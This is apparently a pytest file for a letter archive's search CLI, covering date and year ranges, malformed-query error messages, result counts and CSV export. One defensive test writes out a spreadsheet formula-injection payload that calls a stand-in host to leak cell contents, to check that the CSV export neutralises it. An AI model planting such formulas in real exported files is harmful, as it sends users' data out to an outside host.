"""The query syntax a reader types: dates and years compared strictly or inclusively, ranges
open at either end, and mistakes (a field without a value, a range or quote left open) told as
one clear error line by the real CLI, never a traceback or a search for something else.

Dates are read through a real Whoosh index of letters dated to the day, the month or only the
year, so that "after 1820" is seen to leave out a letter dated only "1820".
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from archive.api import Archive
from metadata.card import Card, SourceFacts
from search import docsets, indexer
from search.errors import QuerySyntaxError, QueryTooBroad
from search.indexer import open_index
from search.query import parse_query, search
from tests.support import SAMPLES, run_cli

DATES = ("1819-12-31", "1820", "1820-03", "1820-03-03", "1820-12-31", "1821-01-01", "1830")
AFTER_1819 = DATES[1:]
IN_1820 = DATES[1:5]


def card(number: int, date: str | None) -> Card:
    return Card(
        id=f"L-{number:04d}",
        title=f"Letter {number}",
        date=date,
        senders=["Karin Lund"],
        recipients=["Anna Lindqvist"],
        language="en",
        text="The parcel reached me on Tuesday.",
        source=SourceFacts(filename=f"{number}.txt", sha256=f"{number:064x}"),
    )


@pytest.fixture(scope="module")
def index(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("dated") / "index"
    indexer.update(path, [card(n, date) for n, date in enumerate((*DATES, None))])
    return path


def found(index: Path, query: str) -> list[str | None]:
    return sorted(hit.date or "" for hit in search(index, query, 50).hits)


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        # > and < leave out the whole period named; >= and <= hold all of it
        ("date:>1820", ["1821-01-01", "1830"]),
        ("date:>=1820", AFTER_1819),
        ("date:<1820", ["1819-12-31"]),
        ("date:<=1820", ["1819-12-31", *IN_1820]),
        ("date:>1820-03", ["1820-12-31", "1821-01-01", "1830"]),
        ("date:>=1820-03-03", ["1820-03-03", "1820-12-31", "1821-01-01", "1830"]),
        ("date:<1820-03", ["1819-12-31", "1820"]),
        ("date:<=1820-12-31", ["1819-12-31", *IN_1820]),
        # ranges: inclusive [ ], strict { }, either end open with * or left out
        ("date:[1820 TO 1821]", [*IN_1820, "1821-01-01"]),
        ("date:{1820 TO 1830}", ["1821-01-01"]),
        ("date:[1820 TO 1830}", [*IN_1820, "1821-01-01"]),
        ("date:[1820 TO *]", AFTER_1819),
        ("date:[* TO 1820]", ["1819-12-31", *IN_1820]),
        ("date:[TO 1819]", ["1819-12-31"]),
        ("date:[1821 TO]", ["1821-01-01", "1830"]),
        ("date:[* TO *]", list(DATES)),  # every dated letter, not the undated one
        ("date:[1820-03 TO 1820-03]", ["1820-03", "1820-03-03"]),
        # a date names a period; several can be ORed
        ("date:1820", IN_1820),
        ("date:1820-03", ["1820-03", "1820-03-03"]),
        ('date:"1830"', ["1830"]),
        ("date:(1819 OR 1830)", ["1819-12-31", "1830"]),
        # years the same way
        ("year:>1820", ["1821-01-01", "1830"]),
        ("year:>=1821", ["1821-01-01", "1830"]),
        ("year:<1820", ["1819-12-31"]),
        ("year:<=1820", ["1819-12-31", *IN_1820]),
        ("year:[1821 TO *]", ["1821-01-01", "1830"]),
        ("year:[* TO 1819]", ["1819-12-31"]),
        ("year:{1819 TO 1821}", IN_1820),
        # open ends in other fields' ranges too
        ("from:[karin TO *] year:1830", ["1830"]),
    ],
)
def test_dates_and_years_compare_as_a_reader_means(index, query, expected):
    assert found(index, query) == sorted(expected)


@pytest.mark.parametrize(
    ("query", "says"),
    [
        # a field with no value, in every field that takes one
        *[(f"{name}:", f"'{name}:' has no value") for name in (
            "from", "to", "sender", "recipient", "people", "place", "place_sent", "date",
            "year", "lang", "collection", "title", "subject", "text", "format", "has_notes",
            "id",
        )],
        ("from: Lund", "'from:' has no value"),
        ("from:Lund to:", "'to:' has no value"),
        ("(place:)", "'place:' has no value"),
        ("date:>", "'date:' has no value"),
        ("year:<=", "'year:' has no value"),
        (">1820", "'>' needs a field before it"),
        # a range or quote left open, or brackets around no range
        ("date:[1820 TO", "is not closed"),
        ("date:[1820", "is not closed"),
        ("year:[1820 TO", "is not closed"),
        ("place:[a TO", "is not closed"),
        ("date:{1820 TO 1830", "is not closed"),
        ("date:1820 TO 1830]", "closes no range"),
        ("date:[1820 1830]", "is not a range"),
        ('"parcel reached', "is not closed"),
        # values the field cannot hold
        ("date:[1830 TO 1820]", "holds nothing"),
        ("date:1820-13", "no month 13"),
        ("date:1820-02-30", "no day 30"),
        ("date:0000", "no year 0"),
        ("date:abc", "YYYY-MM-DD"),
        ("date:[1820 TO abc]", "'abc' is not a date"),
        ("date:18*", "never a wildcard"),
        ("date:1820~", "never a wildcard"),
        ("year:abc", "'abc' is not a year"),
        ("year:>18200", "is not a year"),
        ("year:18?0", "never a wildcard"),
        ("has_notes:maybe", "yes or no"),
        ("date:>9999-12-31", "after 9999"),
        # sizes Whoosh's parser would take minutes over or recurse too deep for
        ("x" * 4001, "4,001 characters long"),
        ("(" * 51 + "parcel" + ")" * 51, "nested 51 deep"),
        ("parcel~4", "too many letters"),
    ],
)  # fmt: skip
def test_mistakes_are_named(index, query, says):
    ix = open_index(index)
    try:
        with pytest.raises(QuerySyntaxError) as raised:
            parse_query(ix, query)
    finally:
        ix.close()
    message = str(raised.value)
    assert says in message and len(message.splitlines()) == 1, message


# -- through the real CLI -------------------------------------------------------------------


@pytest.fixture(scope="module")
def samples(tmp_path_factory: pytest.TempPathFactory) -> Path:
    archive = tmp_path_factory.mktemp("samples") / "archive"
    report = Archive(archive).ingest([SAMPLES / "letters"])
    assert report.count("failed") == 0 and report.index_error is None, report.to_json()
    return archive


@pytest.mark.parametrize(
    "query",
    ["from:", "date:[1820 TO", "year:[2015 TO", "lang:", 'to:"Lindqvist', "date:>", "[sic]"],
)
def test_the_cli_says_what_is_wrong_in_one_line(samples, query):
    result = run_cli(samples, "search", query)
    assert result.returncode == 2 and result.stdout == ""
    lines = result.stderr.splitlines()
    assert len(lines) == 1 and lines[0].startswith("Error: cannot read the query"), result.stderr
    assert "Traceback" not in result.stderr


def test_open_ranges_through_the_cli(samples):
    result = run_cli(samples, "search", "date:[2020 TO *]", "--json", "--limit", "20")
    assert result.returncode == 0, result.stderr
    dates = sorted(hit["date"] for hit in json.loads(result.stdout)["hits"])
    assert dates == ["2021-03-03", "2021-03-04", "2021-03-04"]
    result = run_cli(samples, "search", "date:[* TO 2000]", "--json")
    assert sorted(h["date"] for h in json.loads(result.stdout)["hits"]) == [
        "1916-10-13",
        "1998-07-14",
    ]


def test_the_count_line_agrees_in_number(samples):
    one = run_cli(samples, "search", "Chateaudun")
    assert one.returncode == 0 and "1 letter matches; 1–1 shown." in one.stderr, one.stderr
    two = run_cli(samples, "search", "wetlands")
    assert "2 letters match; 1–2 shown." in two.stderr, two.stderr
    # the JSON keeps its fields
    data = json.loads(run_cli(samples, "search", "Chateaudun", "--json").stdout)
    assert data["total"] == 1 and set(data) >= {"query", "total", "hits", "facets", "page"}


def test_csv_cells_a_spreadsheet_would_run_are_neutralised(tmp_path):
    archive = tmp_path / "archive"
    report = Archive(archive).ingest([SAMPLES / "letters" / "fr-lettre-chateaudun.txt"])
    letter = report.results[0].id
    hostile = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'
    edited = run_cli(
        archive, "edit", letter, "--set", f"title={hostile}", "--set", "senders=@SUM(A1:A9)"
    )
    assert edited.returncode == 0, edited.stderr
    result = run_cli(archive, "search", "Chateaudun", "--csv")
    assert result.returncode == 0, result.stderr
    row = next(csv.DictReader(io.StringIO(result.stdout)))
    assert row["title"] == "'" + hostile
    assert row["senders"] == "'@SUM(A1:A9)"
    assert row["id"] == letter and row["date"] == "1998-07-14"  # ordinary cells as they were


def test_a_wildcard_standing_for_too_many_words_is_refused(index, monkeypatch):
    assert found(index, "parc* OR reach* OR tues*") == sorted([*DATES, ""])
    monkeypatch.setattr(docsets, "MAX_EXPANSION", 2)  # the index holds few words
    with pytest.raises(QueryTooBroad) as raised:
        search(index, "parc* OR reach* OR tues*", 10)
    assert "more than 2 words" in str(raised.value) and "give it more letters" in str(raised.value)
    assert raised.value.code == "query-too-broad"
    assert found(index, "parc* OR reach*") == sorted([*DATES, ""])  # two words: within it
